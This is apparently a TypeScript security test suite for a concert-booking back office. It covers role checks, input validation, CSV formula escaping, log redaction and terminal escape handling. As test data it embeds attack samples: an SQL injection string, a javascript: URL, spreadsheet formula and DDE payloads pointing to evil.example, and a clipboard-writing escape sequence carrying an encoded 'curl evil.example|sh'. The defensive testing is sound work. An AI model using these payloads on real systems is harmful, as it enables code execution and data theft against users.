/**
 * The back office (issue 20) as an attacker meets it: a customer or door staff reaching the
 * admin search, report and users list (and an email filter that would tell whether an address
 * exists), tampered cursors and times, concert edits that would break a sale (negative or huge
 * prices, cleared required fields, a window that closes before it opens, a cancelled concert),
 * a bodyless request to a route whose body is required, and spreadsheet formulas in the CSV.
 */
import { parse } from 'csv-parse/sync';
import t from 'tap';
import { salesReportTable } from '../../app/cli/reports.ts';
import type { SalesReport } from '../../query-api/reports/sales-report.ts';
import { testApp } from '../support/app.ts';
import { adminToken, createConcert, customer } from '../support/booking.ts';
import { bearer, login, register } from '../support/users.ts';

t.test('a customer and door staff get 403 from every back-office read, whatever the address they ask about', async (t) => {
  const made = await testApp(t, { REQUIRE_EMAIL_VERIFICATION: 'false' });
  made.services.projector.start();
  const { app } = made;
  const admin = await adminToken(made);
  const concert = await createConcert(app, admin);
  const fan = await customer(app);
  const doorAccount = await register(app);
  const promoted = await app.inject({ method: 'PUT', url: `/api/v1/admin/users/${doorAccount.id}/role`, headers: bearer(admin), payload: { role: 'staff' } });
  t.equal(promoted.statusCode, 200, promoted.body);
  const staff = await login(app, doorAccount);
  const urls = [
    '/api/v1/admin/bookings',
    '/api/v1/admin/bookings?email=ops%40example.test',
    '/api/v1/admin/bookings?email=nobody%40example.test',
    `/api/v1/admin/concerts/${concert.id}/report`,
    `/api/v1/admin/concerts/${concert.id}/report?format=csv`,
    '/api/v1/admin/users?q=adm',
  ];
  for (const [who, token] of [['customer', fan.token], ['staff', staff]] as const) {
    for (const url of urls) {
      const answer = await app.inject({ method: 'GET', url, headers: bearer(token) });
      t.equal(answer.statusCode, 403, `${who} ${url}`);
      t.match(answer.json(), { code: 'FORBIDDEN' });
    }
    const edit = await app.inject({ method: 'PATCH', url: `/api/v1/admin/concerts/${concert.id}`, headers: bearer(token), payload: { name: 'Taken over' } });
    t.equal(edit.statusCode, 403, `${who} PATCH`);
    const grow = await app.inject({ method: 'POST', url: `/api/v1/admin/concerts/${concert.id}/ticket-classes`, headers: bearer(token), payload: { name: 'Free', price: 0, total_seats_in_class: 10 } });
    t.equal(grow.statusCode, 403, `${who} ticket-classes`);
  }
  // The same 403 whether the address has an account: the filter reveals nothing before the role check.
  const known = await app.inject({ method: 'GET', url: '/api/v1/admin/bookings?email=ops%40example.test', headers: bearer(fan.token) });
  const unknown = await app.inject({ method: 'GET', url: '/api/v1/admin/bookings?email=nobody%40example.test', headers: bearer(fan.token) });
  t.same(known.json(), unknown.json(), 'byte for byte the same refusal');
  t.equal((await app.inject({ method: 'GET', url: '/api/v1/admin/bookings' })).statusCode, 401, 'no token: 401');
});

t.test('tampered cursors, times and ids in the back office are a 400 problem, never a 500', async (t) => {
  const made = await testApp(t, { REQUIRE_EMAIL_VERIFICATION: 'false' });
  made.services.projector.start();
  const { app } = made;
  const admin = await adminToken(made);
  const cursor = (key: unknown) => Buffer.from(JSON.stringify(key)).toString('base64url');
  const cases: [string, number[]][] = [
    [`/api/v1/admin/bookings?cursor=${cursor(['not a time', 'x'])}`, [200, 400]],
    [`/api/v1/admin/bookings?cursor=${cursor(['9999-99-99T99:99:99.999Z', "' OR 1=1 --"])}`, [200, 400]],
    [`/api/v1/admin/bookings?cursor=${cursor([1, 2])}`, [400]],
    [`/api/v1/admin/bookings?cursor=${cursor(['2026-01-01T00:00:00.000Z'])}`, [400]],
    ['/api/v1/admin/bookings?cursor=%00%ff', [400]],
    ['/api/v1/admin/bookings?created_from=2026-02-30T00:00:00Z', [400]],
    ['/api/v1/admin/bookings?created_from=2027-01-01T00:00:00Z&created_to=2026-01-01T00:00:00Z', [400]],
    ['/api/v1/admin/bookings?email=%25%40%25', [200, 400]],
    ['/api/v1/admin/bookings?email=a@b&email=c@d', [400]],
    ['/api/v1/admin/bookings?status=paid', [400]],
    ['/api/v1/admin/bookings?limit=101', [400]],
    ['/api/v1/admin/bookings?concert_id=1', [400]],
    [`/api/v1/admin/users?cursor=${cursor([{}, 'x'])}`, [400]],
    ['/api/v1/admin/users?q=%25', [400]],
    ['/api/v1/admin/concerts/not-a-uuid/report', [400]],
    ['/api/v1/admin/concerts/00000000-0000-4000-8000-000000000000/report', [404]],
    ['/api/v1/admin/concerts/00000000-0000-4000-8000-000000000000/report?format=xlsx', [400]],
  ];
  for (const [url, statuses] of cases) {
    const answer = await app.inject({ method: 'GET', url, headers: bearer(admin) });
    t.ok(statuses.includes(answer.statusCode), `${url}: ${answer.statusCode} ${answer.body.slice(0, 200)}`);
    if (answer.statusCode >= 400) t.match(answer.headers['content-type'], /problem\+json/, `${url}: problem+json`);
  }
});

t.test('concert edits that would break a sale are refused; a bodyless write with required fields is a 400', async (t) => {
  const made = await testApp(t, { REQUIRE_EMAIL_VERIFICATION: 'false' });
  made.services.projector.start();
  const { app } = made;
  const admin = await adminToken(made);
  const concert = await createConcert(app, admin);
  const classId = concert.ticket_classes[0]?.id ?? '';
  const patch = (payload: unknown, id = concert.id) => app.inject({ method: 'PATCH', url: `/api/v1/admin/concerts/${id}`, headers: bearer(admin), payload: payload as object });
  const refused: [string, unknown, number, string][] = [
    ['a negative price', { ticket_classes: [{ id: classId, price: -1 }] }, 400, 'VALIDATION_FAILED'],
    ['a price past the cap', { ticket_classes: [{ id: classId, price: 10 ** 13 }] }, 400, 'VALIDATION_FAILED'],
    ['a fractional price', { ticket_classes: [{ id: classId, price: 0.5 }] }, 400, 'VALIDATION_FAILED'],
    ["another concert's class", { ticket_classes: [{ id: '00000000-0000-4000-8000-000000000000', price: 1 }] }, 400, 'UNKNOWN_TICKET_CLASS'],
    ['a blank name', { name: '   ' }, 400, 'INVALID_CONCERT_DETAILS'],
    ['a cleared name', { name: null }, 400, 'VALIDATION_FAILED'],
    ['a cleared date', { date: null }, 400, 'VALIDATION_FAILED'],
    ['a date that is no instant', { date: '2027-02-30T00:00:00Z' }, 400, 'VALIDATION_FAILED'],
    ['sales opening after the concert', { sales_open_at: '2100-01-01T00:00:00Z' }, 400, 'INVALID_SALES_WINDOW'],
    ['a per-KTP limit of 0', { max_tickets_per_ktp: 0 }, 400, 'VALIDATION_FAILED'],
    ['an unknown field', { status: 'active' }, 400, 'VALIDATION_FAILED'],
    ['a javascript: image', { image_url: 'javascript:alert(1)' }, 400, 'VALIDATION_FAILED'],
  ];
  for (const [name, payload, status, code] of refused) {
    const answer = await patch(payload);
    t.equal(answer.statusCode, status, `${name}: ${answer.body}`);
    t.match(answer.json(), { code }, name);
  }
  const growBy = (payload: unknown) => app.inject({ method: 'POST', url: `/api/v1/admin/concerts/${concert.id}/ticket-classes`, headers: bearer(admin), payload: payload as object });
  t.match((await growBy({ name: 'Festival', price: 750_000, total_seats_in_class: 1 })).json(), { status: 400, code: 'INVALID_TICKET_CLASS' }, 'a class never shrinks');
  t.match((await growBy({ name: 'Festival', price: 1, total_seats_in_class: 200 })).json(), { status: 400, code: 'DUPLICATE_TICKET_CLASS' }, 'an existing class keeps its price');
  t.equal((await app.inject({ method: 'POST', url: `/api/v1/admin/concerts/${concert.id}/ticket-classes`, headers: { ...bearer(admin), 'content-type': 'application/json' } })).statusCode, 400, 'no body where one is required (JSON type)');
  t.equal((await app.inject({ method: 'POST', url: `/api/v1/admin/concerts/${concert.id}/ticket-classes`, headers: bearer(admin) })).statusCode, 400, 'no body where one is required');
  const fan = await customer(app);
  for (const headers of [{ ...bearer(fan.token), 'content-type': 'application/json' }, bearer(fan.token)]) {
    const bodyless = await app.inject({ method: 'POST', url: '/api/v1/bookings', headers });
    t.equal(bodyless.statusCode, 400, `a bodyless booking: ${bodyless.body}`);
  }
  const events = (await made.services.shared.store.readStream(`concert-${concert.id}`)).map((event) => event.type);
  t.same(events.filter((type) => type !== 'ConcertScheduled' && type !== 'ConcertPublished'), [], 'no refused edit appended anything');

  t.equal((await app.inject({ method: 'POST', url: `/api/v1/admin/concerts/${concert.id}/cancel`, headers: bearer(admin) })).statusCode, 200);
  const late = await patch({ name: 'Back from the dead' });
  t.equal(late.statusCode, 409, late.body);
  t.match(late.json(), { code: 'CONCERT_CANCELLED' });
  t.match((await growBy({ name: 'Encore', price: 1, total_seats_in_class: 5 })).json(), { code: 'CONCERT_CANCELLED' });
});

t.test('class names that a spreadsheet would run as formulas are escaped in the CSV report', async (t) => {
  const made = await testApp(t, { REQUIRE_EMAIL_VERIFICATION: 'false' });
  made.services.projector.start();
  const { app } = made;
  const admin = await adminToken(made);
  const names = ['=HYPERLINK("http://evil.example","x")', '+1+1', '-2+3', '@SUM(A1)', '\tTab', '\rCR', 'Plain'];
  const concert = await createConcert(app, admin, names.map((name) => ({ name, price: 1000, total_seats_in_class: 1 })), { name: '=cmd|" /C calc"!A0' });
  const csv = await app.inject({ method: 'GET', url: `/api/v1/admin/concerts/${concert.id}/report?format=csv&min_position=${await made.services.shared.store.headPosition()}`, headers: bearer(admin) });
  t.equal(csv.statusCode, 200, csv.body);
  const rows = parse<Record<string, string>>(csv.body, { columns: true });
  const shown = rows.map((row) => row.ticket_class ?? '').filter((name) => name !== 'TOTAL');
  t.equal(shown.length, names.length);
  for (const cell of shown) {
    t.notOk(/^[=+\-@\t\r]/.test(cell), `a cell a spreadsheet does not run: ${JSON.stringify(cell)}`);
  }
  t.ok(shown.includes('Plain'), 'a plain name is left as it is');
  t.notMatch(csv.body, /cmd\|/, "the concert's name is not in the CSV");
});

t.test("the address an admin searches by is not written to the logs with the request's URL", async (t) => {
  const made = await testApp(t, { REQUIRE_EMAIL_VERIFICATION: 'false' });
  const { app } = made;
  const admin = await adminToken(made);
  const local = `searched.${Date.now().toString(36)}`;
  for (const url of [`/api/v1/admin/bookings?email=${local}@example.test`, `/api/v1/admin/bookings?limit=5&email=${local}%40example.test&status=pending`]) {
    const answer = await app.inject({ method: 'GET', url, headers: bearer(admin) });
    t.equal(answer.statusCode, 200, answer.body);
  }
  const lines = made.logs.filter((line) => line.includes('/api/v1/admin/bookings'));
  t.ok(lines.length >= 2, `the search requests were logged (${lines.length} lines)`);
  t.strictSame(lines.filter((line) => line.includes(local)), [], 'no log line names the address');
  t.ok(lines.some((line) => line.includes('status=pending')), 'the rest of the query is still logged');
});

t.test('report:sales prints names with terminal control sequences inert', async (t) => {
  const made = await testApp(t, { REQUIRE_EMAIL_VERIFICATION: 'false' });
  made.services.projector.start();
  const { app } = made;
  const admin = await adminToken(made);
  // An OSC 52 sequence writes the terminal's clipboard; CSI 2J clears the screen; a bare CR overwrites the line.
  const concert = await createConcert(app, admin, [{ name: 'VIP\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\u0007', price: 1000, total_seats_in_class: 1 }], {
    name: 'Konser\u001b[2J\u001b[1;1H\rFAKE TOTAL 0\u009b31m',
  });
  const report = await app.inject({ method: 'GET', url: `/api/v1/admin/concerts/${concert.id}/report?min_position=${await made.services.shared.store.headPosition()}`, headers: bearer(admin) });
  t.equal(report.statusCode, 200, report.body);
  const table = salesReportTable(report.json<SalesReport>());
  // eslint-disable-next-line no-control-regex
  t.notMatch(table, /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/, 'no control character but the line breaks reaches the terminal');
  t.match(table, /Konser/, 'the name is still shown');
});
